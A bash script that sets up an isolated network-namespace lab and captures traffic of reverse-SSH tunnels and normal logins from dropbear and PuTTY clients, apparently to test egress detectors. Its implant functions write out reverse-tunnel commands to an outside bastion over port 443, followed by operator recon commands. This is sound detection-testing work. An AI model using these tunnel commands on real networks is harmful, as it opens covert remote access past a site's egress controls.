#!/bin/bash
# mkpcaps-clients.sh - lab captures of SSH implementations other than OpenSSH (dropbear's
# dbclient and dropbear server, PuTTY's plink), to check that the reverse-SSH detectors model
# behaviour and not OpenSSH's packet sizes.  Needs root (network namespaces) and the Debian
# packages dropbear-bin and putty-tools (plus what tools/mkpcaps.sh needs).
#
#   tools/mkpcaps-clients.sh            all captures below
#   tools/mkpcaps-clients.sh NAME ...   only these: ssh-dropbear-rshell ssh-plink-rshell
#                                       ssh-dropbear-server-login ssh-plink-login
#                                       ssh-dropbear-client-login
#
# Runs its own lab (tools/lab.sh with LAB_PREFIX=cl-, LAB_RUN=/tmp/egress-lab-cl: namespaces
# cl-train, cl-router, cl-outside) so it can run next to tools/mkpcaps.sh.  tcpdump on the
# router's outside veth (r-out).  The sshd/dropbear plumbing (private user database, hostname,
# /run and /var/log under unshare --mount --uts) is tools/mkpcaps.sh's, in tools/lab-common.sh.
# Everything is torn down in a trap, killing only the PIDs started here; nothing is routed
# outside the namespaces.  Environment: OUT (default pcaps/), LAB_DELAY_MS (default 20),
# KEEP_WORK=1 (keep the work folder: typer.log, server logs), SSHD_LOGLEVEL=DEBUG3 (sshd logs
# every packet type it sends and receives, with KEEP_WORK=1: to tell what a record was).
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(dirname "$HERE")
OUT=${OUT:-$TOP/pcaps}
PY=/usr/bin/python3
SVC="$PY $HERE/labsvc.py"
export LAB_PREFIX=${LAB_PREFIX:-cl-}
export LAB_RUN=${LAB_RUN:-/tmp/egress-lab-cl}
# shellcheck source=tools/lab-common.sh
. "$(dirname "$0")/lab-common.sh"

lab_init mkpcaps-clients mkpcaps-cl
for b in dbclient dropbear dropbearkey plink puttygen tcpdump; do
	command -v $b >/dev/null || { log "missing $b (apt-get install dropbear-bin putty-tools)"; exit 1; }
done
mkdir -p "$OUT"

# ---------------------------------------------------------------- ssh plumbing (tools/lab-common.sh)
# Client keys: the OpenSSH key id_user, the same key as a PuTTY .ppk (puttygen), and a
# dropbear-format key made by dropbearkey; all three in authorized_keys.  Clients run with HOME
# in $W/chome (dbclient and plink write nothing under the machine's own home).
ssh_setup_extra() {
	mkdir -p "$W/chome"
	puttygen "$W/keys/id_user" -O private -o "$W/keys/id_user.ppk"
	dropbearkey -t ed25519 -f "$W/keys/id_user.db" >/dev/null 2>&1
	dropbearkey -y -f "$W/keys/id_user.db" 2>/dev/null | grep '^ssh-' \
	    >>"$W/home/user/.ssh/authorized_keys"
	chmod 600 "$W/home/user/.ssh/authorized_keys"
}

# SSHD_LOGLEVEL=DEBUG3: sshd logs every packet type it sends and receives
sshd_conf_extra() {
	echo "LogLevel ${SSHD_LOGLEVEL:-INFO}"
}

# outside OpenSSH sshd "bastion" on 198.51.100.7:22 and :443
outside_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_outside:-}" ]; then
		sshd_start outside bastion "198.51.100.7:22; 198.51.100.7:443"
		wait_listen "$NS_O" 198.51.100.7:22
		wait_listen "$NS_O" 198.51.100.7:443
		# plink checks the host key against -hostkey: both of the server's fingerprints
		HOSTKEYS=()
		local k
		for k in ed25519 ecdsa; do
			HOSTKEYS+=(-hostkey "$(ssh-keygen -l -E sha256 \
			    -f "$W/sshd-outside/ssh_host_${k}_key.pub" | awk '{print $2}')")
		done
	fi
}

# the inside GPU node's own OpenSSH sshd (the target of the reverse tunnels)
train_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_train:-}" ]; then
		sshd_start train gpu-node-07 "127.0.0.1:22; 10.20.0.10:22"
		wait_listen "$NS_T" 127.0.0.1:22
	fi
}

# outside dropbear server "dropbear-box" on 198.51.100.9:22 (key auth only, no motd)
outside_dropbear() {
	ssh_setup
	if [ -z "${DROPBEAR_PID:-}" ]; then
		local d=$W/dropbear
		mkdir -p "$d"
		echo dropbear-box >"$d/hostname"
		dropbearkey -t ed25519 -f "$d/host_ed25519" >/dev/null 2>&1
		dropbearkey -t ecdsa -f "$d/host_ecdsa" >/dev/null 2>&1
		bg "$NS_O" unshare --mount --uts /bin/sh -c "$(in_sshd_world "$d" dropbear-box \
		    "dropbear -F -E -s -m -w -r $d/host_ed25519 -r $d/host_ecdsa -p 198.51.100.9:22 -P $d/dropbear.pid")" \
		    2>"$d/dropbear.log"
		DROPBEAR_PID=$LASTPID
		wait_listen "$NS_O" 198.51.100.9:22
	fi
}

# Client commands (HOME in $W: no known_hosts or PuTTY random seed under the machine's home)
DBCLIENT=(env HOME="$W/chome" dbclient -y -y -i "$W/keys/id_user.db")
PLINK=(env HOME="$W/chome" plink -ssh -batch -noagent -i "$W/keys/id_user.ppk")

# Commands the operator types in a reverse shell (as mkpcaps.sh's RSHELL_LINES)
RSHELL_LINES=(--line "id" --line "hostname" --line "uname -a" --line "ls -la ~"
	--line "cat /etc/os-release" --line "exit")
# Commands an inside user types in an ordinary login
LOGIN_LINES=(--line "uptime" --line "ls -la" --line "cat notes.txt" --line "df -h /"
	--line "whoami" --line "exit")

# rshell NAME TUNNEL_PORT SEED IMPLANT...: start IMPLANT (an -N -R TUNNEL_PORT:127.0.0.1:22
# client) in train; the operator in outside logs in back through the tunnel with OpenSSH and
# types RSHELL_LINES.
rshell() {
	local name=$1 tport=$2 seed=$3
	shift 3
	outside_sshd
	train_sshd
	cap_start "$name"
	bg "$NS_T" "$@" </dev/null 2>"$W/$name-implant.log"
	tunnel_login "$LASTPID" "$tport" 1.5 "$seed" "${RSHELL_LINES[@]}"
}

do_dropbear_rshell() {
	outside_sshd
	rshell ssh-dropbear-rshell 2201 201 \
	    "${DBCLIENT[@]}" -N -T -R 2201:127.0.0.1:22 -p 22 user@198.51.100.7
}

do_plink_rshell() {
	outside_sshd
	rshell ssh-plink-rshell 2202 202 \
	    "${PLINK[@]}" "${HOSTKEYS[@]}" -N -R 2202:127.0.0.1:22 -P 443 user@198.51.100.7
}

# login NAME SEED CLIENT...: the inside user types LOGIN_LINES into CLIENT (in a pty)
login() {
	local name=$1 seed=$2
	shift 2
	cap_start "$name"
	ip netns exec "$NS_T" $SVC typer --seed "$seed" "${LOGIN_LINES[@]}" -- "$@" \
	    2>>"$W/typer.log"
	cap_stop
}

do_dropbear_server_login() {
	outside_dropbear
	login ssh-dropbear-server-login 203 ssh "${SSH_OPTS[@]}" -tt -p 22 user@198.51.100.9
}

do_plink_login() {
	outside_sshd
	login ssh-plink-login 204 "${PLINK[@]}" "${HOSTKEYS[@]}" -t -P 22 user@198.51.100.7
}

do_dropbear_client_login() {
	outside_sshd
	login ssh-dropbear-client-login 205 "${DBCLIENT[@]}" -t -p 22 user@198.51.100.7
}

# ---------------------------------------------------------------- main
ALL="ssh-dropbear-rshell ssh-plink-rshell ssh-dropbear-server-login ssh-plink-login
ssh-dropbear-client-login"
WANT=${*:-$ALL}

for n in $WANT; do
	case $n in
	ssh-dropbear-rshell) need_lab; do_dropbear_rshell ;;
	ssh-plink-rshell) need_lab; do_plink_rshell ;;
	ssh-dropbear-server-login) need_lab; do_dropbear_server_login ;;
	ssh-plink-login) need_lab; do_plink_login ;;
	ssh-dropbear-client-login) need_lab; do_dropbear_client_login ;;
	*) log "unknown capture: $n"; exit 2 ;;
	esac
done
log "done"
